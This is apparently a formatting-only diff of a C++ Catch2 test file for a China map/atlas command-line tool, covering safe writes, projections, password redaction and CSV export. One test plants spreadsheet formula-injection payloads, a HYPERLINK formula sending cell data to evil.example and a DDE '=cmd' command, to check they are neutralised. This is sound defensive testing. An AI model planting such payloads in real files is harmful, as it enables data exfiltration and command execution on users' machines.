@@ -1,12 +1,11 @@
 // Outputs that never lose or expose data and open right where users open them (issue: atomic writes,
 // checked writes, formats). Each TEST_CASE is one kind of fault; the kinds that need root, strace or
 // a full file system are the shell tests in tests/outputs/.
-#include <catch2/catch.hpp>
-
 #include <gdal_priv.h>
 #include <ogrsf_frmts.h>
 #include <sys/wait.h>
 
+#include <catch2/catch.hpp>
 #include <cmath>
 #include <cstdlib>
 #include <filesystem>
@@ -46,8 +45,10 @@ Validity validity(const std::string& path, const std::string& layer_name) {
     for (auto& f : *layer) {
         ++v.features;
         const OGRGeometry* g = f->GetGeometryRef();
-        if (g == nullptr || g->IsEmpty()) ++v.empty;
-        else if (g->IsValid()) ++v.valid;
+        if (g == nullptr || g->IsEmpty())
+            ++v.empty;
+        else if (g->IsValid())
+            ++v.valid;
     }
     return v;
 }
@@ -74,7 +75,8 @@ TEST_CASE("simplify: every polygon stays valid, in every layer", "[outputs]") {
     CHECK(validity(tmp.path("p20k.gpkg"), "provinces").valid == 34);
     auto all = run_cli("export --layer all --simplify 2000 -o " + tmp.path("all.gpkg"));
     REQUIRE(all.exit_code == 0);
-    for (const auto& [layer, count] : {std::pair<const char*, int>{"prefectures", 367}, {"regions", 19}, {"coverage", 34}}) {
+    for (const auto& [layer, count] :
+         {std::pair<const char*, int>{"prefectures", 367}, {"regions", 19}, {"coverage", 34}}) {
         INFO(layer);
         Validity v = validity(tmp.path("all.gpkg"), layer);
         CHECK(v.features == count);
@@ -161,8 +163,10 @@ TEST_CASE("text that a spreadsheet would run as a formula is neutralised in ever
         ensure_gdal_registered();
         GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("atlas.gpkg").c_str(), GDAL_OF_VECTOR | GDAL_OF_UPDATE));
         REQUIRE(ds);
-        ds->ExecuteSQL("UPDATE provinces SET name_en = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Beijing\")', "
-                       "name_zh = '=cmd|'' /C calc''!A0' WHERE code = '110000'", nullptr, nullptr);
+        ds->ExecuteSQL(
+            "UPDATE provinces SET name_en = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Beijing\")', "
+            "name_zh = '=cmd|'' /C calc''!A0' WHERE code = '110000'",
+            nullptr, nullptr);
     }
     std::string gpkg = "--geodata " + tmp.path("atlas.gpkg") + " ";
     REQUIRE(run_cli(gpkg + "export --layer provinces -o " + tmp.path("out.csv")).exit_code == 0);
@@ -183,7 +187,8 @@ TEST_CASE("legend class labels have the digits that tell their breaks apart", "[
     CHECK(format_breaks({1200000, 1230000}) == std::vector<std::string>{"1.2M", "1.23M"});
     CHECK(format_breaks({1, 5, 12}) == std::vector<std::string>{"1", "5", "12"});
     Document& doc = test::bundled_document();
-    UserTable t = read_user_table(std::string(ATLAS_TEST_DATA) + "/cases/sex_ratio.csv", doc.provinces(), doc.prefectures());
+    UserTable t =
+        read_user_table(std::string(ATLAS_TEST_DATA) + "/cases/sex_ratio.csv", doc.provinces(), doc.prefectures());
     Session s;
     s.choropleth = ChoroplethKind::UserData;
     s.data.path = t.path;
@@ -198,7 +203,8 @@ TEST_CASE("legend class labels have the digits that tell their breaks apart", "[
 }
 
 TEST_CASE("a write to a full or closed stdout is exit 4 with a message", "[outputs]") {
-    for (const char* args : {"export --layer prefectures -o -", "list prefectures --format csv", "coverage --by province --format csv"}) {
+    for (const char* args :
+         {"export --layer prefectures -o -", "list prefectures --format csv", "coverage --by province --format csv"}) {
         INFO(args);
         auto [code, err] = run_redirected(args, "> /dev/full");
         CHECK(code == 4);
@@ -209,13 +215,16 @@ TEST_CASE("a write to a full or closed stdout is exit 4 with a message", "[outpu
     CHECK_THAT(err, Contains("stdout: cannot write (Bad file descriptor)"));
 }
 
-TEST_CASE("projections under which China cannot be shown are refused, and CRSs for elsewhere warned about", "[outputs]") {
-    CHECK_THROWS_WITH(Projection("+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs"), Contains("cannot show China: 0 of 121"));
+TEST_CASE("projections under which China cannot be shown are refused, and CRSs for elsewhere warned about",
+          "[outputs]") {
+    CHECK_THROWS_WITH(Projection("+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs"),
+                      Contains("cannot show China: 0 of 121"));
     CHECK_THROWS_WITH(Projection("EPSG:4978"), Contains("is a geocentric (X, Y, Z) CRS, not a map projection"));
     CHECK_THAT(Projection("EPSG:32719").caveat(), Contains("is meant for lon -72..-66, lat -80..0, not China"));
     CHECK(Projection("albers").caveat().empty());
     TempFolder tmp;
-    auto r = run_cli("--projection '+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs' render --size 64x48 -o " + tmp.path("o.png"));
+    auto r = run_cli("--projection '+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs' render --size 64x48 -o " +
+                     tmp.path("o.png"));
     CHECK(r.exit_code == 2);
     CHECK_FALSE(fs::exists(tmp.path("o.png")));
     auto utm = run_cli("--projection EPSG:32719 render --size 64x48 -o " + tmp.path("u.png"));
@@ -228,8 +237,8 @@ TEST_CASE("PostgreSQL connection strings are parsed by libpq and the password ne
     CHECK(is_pg_connection("  pg:host=x"));
     CHECK(is_pg_connection("postgresql://u:p@h/db"));
     CHECK_FALSE(is_pg_connection("pg.gpkg"));
-    PgConnection c = parse_pg_connection("pg:host=db port=5433 dbname=gis user=me password='correct horse' active_schema=atlas",
-                                         ErrorKind::Input);
+    PgConnection c = parse_pg_connection(
+        "pg:host=db port=5433 dbname=gis user=me password='correct horse' active_schema=atlas", ErrorKind::Input);
     CHECK(c.describe() == "PostGIS host db, port 5433, database gis");
     CHECK(c.schema() == "atlas");
     CHECK(parse_pg_connection("PG:dbname=x", ErrorKind::Input).schema().empty());
@@ -250,11 +259,13 @@ TEST_CASE("PostgreSQL connection strings are parsed by libpq and the password ne
         }
     }
     TempFolder tmp;
-    auto geodata = run_cli("--geodata 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99' list provinces");
+    auto geodata =
+        run_cli("--geodata 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99' list provinces");
     CHECK(geodata.exit_code == 3);
     CHECK(geodata.err.find("TopSecret99") == std::string::npos);
     CHECK_THAT(geodata.err, Contains("PostGIS host 127.0.0.1, port 1, database atlas: cannot connect"));
-    auto out = run_cli("export --layer hubs -o 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99'");
+    auto out =
+        run_cli("export --layer hubs -o 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99'");
     CHECK(out.exit_code == 4);
     CHECK(out.err.find("TopSecret99") == std::string::npos);
     for (const auto& entry : fs::directory_iterator(fs::current_path()))
@@ -276,10 +287,14 @@ TEST_CASE("a mistyped connection string is never a file named with its password,
 
 TEST_CASE("a render that would draw nothing is refused, and a partly visible projection warned about", "[outputs]") {
     TempFolder tmp;
-    std::ofstream(tmp.path("far.json")) << R"({"clusteratlas_session":1,"size":[64,48],"camera":{"lon":-70,"lat":-40,"metres_per_pixel":100}})";
+    std::ofstream(tmp.path("far.json"))
+        << R"({"clusteratlas_session":1,"size":[64,48],"camera":{"lon":-70,"lat":-40,"metres_per_pixel":100}})";
     auto far = run_cli("render --session " + tmp.path("far.json") + " -o " + tmp.path("far.png"));
     CHECK(far.exit_code == 3);
-    CHECK_THAT(far.err, Contains("nothing to draw: the view (centre lon -70.0000, lat -40.0000, 100 m per pixel) shows no part of China"));
+    CHECK_THAT(
+        far.err,
+        Contains(
+            "nothing to draw: the view (centre lon -70.0000, lat -40.0000, 100 m per pixel) shows no part of China"));
     CHECK_FALSE(fs::exists(tmp.path("far.png")));
     CHECK_THAT(Projection("+proj=ortho +lat_0=0 +lon_0=15").caveat(), Contains("part of China will be missing"));
 }
@@ -290,7 +305,8 @@ TEST_CASE("equal intervals over values spanning more than a double's range still
     for (const std::string& label : format_breaks(c.breaks)) CHECK(label.find("inf") == std::string::npos);
 }
 
-TEST_CASE("degenerate export options: a negative precision is refused, formulas behind spaces neutralised", "[outputs]") {
+TEST_CASE("degenerate export options: a negative precision is refused, formulas behind spaces neutralised",
+          "[outputs]") {
     TempFolder tmp;
     auto negative = run_cli("export --layer hubs --precision -1 -o " + tmp.path("h.geojson"));
     CHECK(negative.exit_code == 2);
